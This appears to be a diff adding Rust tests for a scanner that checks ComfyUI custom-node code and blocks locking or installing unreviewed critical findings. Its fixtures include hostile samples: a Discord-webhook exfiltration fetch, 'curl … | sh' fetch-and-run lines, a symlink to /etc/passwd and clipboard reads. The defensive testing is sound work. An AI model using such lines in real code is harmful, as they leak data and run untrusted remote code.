@@ -1,0 +1,311 @@
+//! `comfy scan` of folders, the scan of pins, and what people accept.
+
+use std::fs;
+use std::os::unix::fs::symlink;
+use std::path::{Path, PathBuf};
+use std::process::Output;
+
+use crate::support::{CORE, File, Upstream, command, python, text, without_ids};
+
+/// A page that sends data to a chat service: critical, whatever else is known of it.
+const WEBHOOK: &[u8] = b"fetch('https://discord.com/api/webhooks/1/x', {method: 'POST'})\n";
+
+fn scan(root: &Path, args: &[&str]) -> Output {
+    command(root)
+        .current_dir(root)
+        .arg("scan")
+        .args(args)
+        .output()
+        .unwrap()
+}
+
+fn write(root: &Path, path: &str, bytes: &[u8]) {
+    let path = root.join(path);
+    fs::create_dir_all(path.parent().unwrap()).unwrap();
+    fs::write(path, bytes).unwrap();
+}
+
+/// A folder with one of each kind of carrier, and harmless twins.
+fn carriers(root: &Path) {
+    write(root, "node/web/a.js", WEBHOOK);
+    write(
+        root,
+        "node/web/b.js",
+        b"import { app } from '../../scripts/app.js'\n",
+    );
+    write(
+        root,
+        "node/install.sh",
+        b"#!/bin/sh\ncurl https://x.test/a | sh\n",
+    );
+    write(root, "node/lib.so", b"\x7fELF\x02\x01\x01");
+    write(
+        root,
+        "node/requirements.txt",
+        b"numpy\ngit+https://x.test/a\n",
+    );
+    write(root, "node/a.pth", b"import os\n");
+    write(root, "node/broken.js", b"function (");
+    write(root, "node/mod.pyc", b"\xa7\r\r\n\0\0\0\0");
+    write(
+        root,
+        "node/README.md",
+        b"curl https://x.test | sh\neval(1)\n",
+    );
+    symlink("../../etc/passwd", root.join("node/out")).unwrap();
+    symlink("README.md", root.join("node/in")).unwrap();
+}
+
+#[test]
+fn a_folder_is_scanned_without_manifest_root_or_network() {
+    let temp = tempfile::tempdir().unwrap();
+    carriers(temp.path());
+    let out = scan(temp.path(), &["node"]);
+    assert_eq!(out.status.code(), Some(2), "a critical finding");
+    insta::assert_snapshot!(text(&out, temp.path()));
+
+    // One that nobody asked to fail on does not.
+    let out = scan(temp.path(), &["node/web/b.js", "--fail-on", "low"]);
+    assert_eq!(out.status.code(), Some(0));
+    assert_eq!(
+        scan(temp.path(), &["node", "--fail-on", "never"])
+            .status
+            .code(),
+        Some(0)
+    );
+    // A folder that is not there is an error, and no finding.
+    assert_eq!(scan(temp.path(), &["nowhere"]).status.code(), Some(1));
+}
+
+#[test]
+fn programs_read_what_a_scan_found() {
+    let temp = tempfile::tempdir().unwrap();
+    carriers(temp.path());
+    let out = scan(temp.path(), &["node", "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(json["format_version"], 1);
+    let found = json["findings"].as_array().unwrap();
+    let webhook = found.iter().find(|f| f["rule"] == "js-webhook").unwrap();
+    insta::assert_snapshot!(serde_json::to_string_pretty(webhook).unwrap());
+    let words: std::collections::BTreeSet<&str> = found
+        .iter()
+        .map(|f| f["category"].as_str().unwrap())
+        .collect();
+    assert!(
+        words.contains("carrier") && words.contains("pkg-install"),
+        "{words:?}"
+    );
+    assert_eq!(json["summary"]["worst"], "critical");
+
+    let out = scan(temp.path(), &["node", "--format", "sarif"]);
+    let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(sarif["version"], "2.1.0");
+    let run = &sarif["runs"][0];
+    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
+    for result in run["results"].as_array().unwrap() {
+        let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
+        assert_eq!(rules[index]["id"], result["ruleId"]);
+        let place = &result["locations"][0]["physicalLocation"];
+        assert!(place["artifactLocation"]["uri"].is_string());
+        assert!(place["region"].is_null() || place["region"]["startLine"].as_u64() >= Some(1));
+    }
+
+    let page = temp.path().join("scan.html");
+    let out = scan(temp.path(), &["node", "--html", page.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(2));
+    let page = fs::read_to_string(page).unwrap();
+    assert!(page.contains("js-webhook") && page.contains("default-src 'none'"));
+    assert!(
+        !page.contains("src=") && !page.contains("@DATA@"),
+        "it loads nothing"
+    );
+    // What is found cannot end the script that holds it.
+    assert_eq!(page.matches("</script>").count(), 2);
+}
+
+#[test]
+fn a_parser_reaches_nothing_and_its_crash_is_a_finding() {
+    let temp = tempfile::tempdir().unwrap();
+    write(temp.path(), "node/a.js", b"//comfy-fault:probe\n");
+    write(temp.path(), "node/b.js", b"//comfy-fault:abort\n");
+    write(temp.path(), "node/c.js", WEBHOOK);
+    let out = scan(temp.path(), &["node", "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let found: Vec<String> = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| format!("{} {}: {}", f["path"], f["rule"], f["message"]))
+        .collect();
+    insta::assert_snapshot!(found.join("\n"));
+}
+
+/// A project with one node, without accounts.
+struct Project {
+    root: PathBuf,
+    node: Upstream,
+    _temp: tempfile::TempDir,
+}
+
+impl Project {
+    fn new(policy: &str) -> Project {
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path().canonicalize().unwrap();
+        let upstream = root.join("upstream");
+        Upstream::new(&upstream, "up/ComfyUI").commit(CORE);
+        let node = Upstream::new(&upstream, "up/node");
+        let project = Project {
+            root,
+            node,
+            _temp: temp,
+        };
+        project.publish(b"const a = 1\n");
+        project.set_policy(policy);
+        project
+    }
+
+    fn publish(&self, script: &[u8]) {
+        let files: Vec<File> = vec![
+            ("__init__.py", b"NODE_CLASS_MAPPINGS = {}\n", 0o100_644),
+            ("js/a.js", script, 0o100_644),
+        ];
+        self.node.commit(&files);
+    }
+
+    fn set_policy(&self, policy: &str) {
+        let text = format!(
+            "version = 1\n[host]\nisolation = \"none\"\nprefix = \"{}/prefix\"\n[comfyui]\nrepo = \
+             \"https://github.com/up/ComfyUI\"\nref = \"main\"\n[python]\nversion = \"{}\"\n\
+             [nodes.node]\nrepo = \"https://github.com/up/node\"\nref = \"main\"\n[policy]\n{policy}\n",
+            self.root.display(),
+            python()
+        );
+        fs::write(self.root.join("comfy.toml"), text).unwrap();
+    }
+
+    fn run(&self, args: &[&str]) -> (Option<i32>, String) {
+        let out = command(&self.root)
+            .current_dir(&self.root)
+            .args(args)
+            .output()
+            .unwrap();
+        let shown = without_ids(&text(&out, &self.root), &[7, 16, 40]);
+        (out.status.code(), shown)
+    }
+
+    fn ok(&self, args: &[&str]) -> String {
+        let (code, shown) = self.run(args);
+        assert_eq!(code, Some(0), "{args:?}: {shown}");
+        shown
+    }
+
+    fn refused(&self, args: &[&str]) -> String {
+        let (code, shown) = self.run(args);
+        assert_eq!(code, Some(1), "{args:?}: {shown}");
+        shown
+    }
+
+    fn lock_text(&self) -> String {
+        fs::read_to_string(self.root.join("comfy.lock")).unwrap()
+    }
+}
+
+#[test]
+fn an_update_tells_what_it_newly_can_do() {
+    let project = Project::new("");
+    project.ok(&["lock"]);
+    let empty = project.ok(&["accept", "--all"]);
+    project.publish(b"fetch('https://x.test/a')\neval(b)\n");
+    insta::assert_snapshot!(
+        empty + &project.ok(&["update"]) + &project.ok(&["scan", "--new", "node"])
+    );
+    // A plan tells it of what is live.
+    project.ok(&["apply", "--yes", "--no-check"]);
+    project.publish(b"navigator.clipboard.readText()\n");
+    project.ok(&["update", "node"]);
+    let plan = project.ok(&["plan"]);
+    let lines: Vec<&str> = plan.lines().filter(|l| l.starts_with("    # ")).collect();
+    insta::assert_snapshot!(lines.join("\n"));
+}
+
+#[test]
+fn critical_code_that_nobody_accepted_is_neither_locked_nor_installed() {
+    let project = Project::new("scan = \"block\"");
+    project.ok(&["lock"]);
+    project.ok(&["apply", "--yes", "--no-check"]);
+    let (before, live) = (project.lock_text(), project.ok(&["verify"]));
+    project.publish(WEBHOOK);
+    let refused = project.refused(&["update"]);
+    assert_eq!(project.lock_text(), before);
+
+    // Somebody locked it elsewhere: the machine looks for itself.
+    project.set_policy("scan = \"warn\"");
+    project.ok(&["update"]);
+    project.set_policy("scan = \"block\"");
+    let stopped = project.refused(&["apply", "--yes", "--no-check"]);
+    insta::assert_snapshot!(format!("{refused}{stopped}"));
+    let plan = project.ok(&["plan"]);
+    assert!(
+        plan.contains("node.node will be updated"),
+        "nothing was installed: {plan}"
+    );
+    drop(live);
+
+    // The entry that the hint names lets it through, and dies with the code.
+    let accepted = "scan = \"block\"\naccept = [{ node = \"node\", rule = \"js-webhook\", path = \
+                    \"js/a.js\", reason = \"a test\" }]";
+    project.set_policy(accepted);
+    project.ok(&["lock"]);
+    project.ok(&["apply", "--yes", "--no-check"]);
+    project.publish(b"fetch('https://discord.com/api/webhooks/2/other')\n");
+    project.refused(&["update"]);
+    // A review accepts what is pinned; here, what was locked without the policy.
+    project.set_policy("scan = \"warn\"");
+    project.ok(&["update"]);
+    project.set_policy("scan = \"block\"");
+    project.refused(&["apply", "--yes", "--no-check"]);
+    project.ok(&["review", "node", "--yes"]);
+    project.ok(&["lock"]);
+    project.ok(&["apply", "--yes", "--no-check"]);
+    assert_eq!(project.ok(&["lock", "--check"]).lines().count(), 2);
+}
+
+#[test]
+fn only_reviewed_code_is_installed_where_the_policy_says_so() {
+    let project = Project::new("review = \"required\"");
+    project.ok(&["lock"]);
+    let (_, refused) = project.run(&["apply", "--yes", "--no-check"]);
+    let shown = project.ok(&["review", "node", "--show"]);
+    // It asks, and there is nobody to answer.
+    let unasked = project.refused(&["review", "node"]);
+    project.ok(&["review", "node", "--yes"]);
+    project.ok(&["review", "comfyui", "--yes"]);
+    project.ok(&["apply", "--yes", "--no-check"]);
+    project.publish(b"const a = 1\neval(x)\n");
+    project.ok(&["update", "node"]);
+    let (_, again) = project.run(&["apply", "--yes", "--no-check"]);
+    let diff = project.ok(&["review", "node", "--show"]);
+    insta::assert_snapshot!(format!("{refused}\n{shown}\n{unasked}\n{again}\n{diff}"));
+}
+
+#[test]
+fn another_reviewer_reads_the_diff_confined() {
+    let project = Project::new("");
+    let reviewer = "import json, os, sys\n\
+                    diff = sys.stdin.read()\n\
+                    try:\n    seen = os.listdir(os.path.dirname(sys.argv[1]))\n\
+                    except OSError as e:\n    seen = type(e).__name__\n\
+                    print(json.dumps({'findings': [{'path': 'js/a.js', 'line': 1, 'severity': 'high',\n\
+                    'message': f'{len(diff) > 0} {seen} {sorted(os.environ)}'}]}))\n";
+    let policy = format!(
+        "reviewer = [\"/usr/bin/python3\", \"-I\", \"-c\", '''{reviewer}''', \"{}\"]",
+        project.root.join("comfy.toml").display()
+    );
+    project.set_policy(&policy);
+    project.ok(&["lock"]);
+    let shown = project.ok(&["review", "node", "--show"]);
+    let said: Vec<&str> = shown.lines().filter(|l| l.contains("(reviewer)")).collect();
+    insta::assert_snapshot!(said.join("\n"));
+    project.set_policy("reviewer = [\"/nonexistent/reviewer\"]");
+    insta::assert_snapshot!(project.refused(&["review", "node", "--show"]));
+}
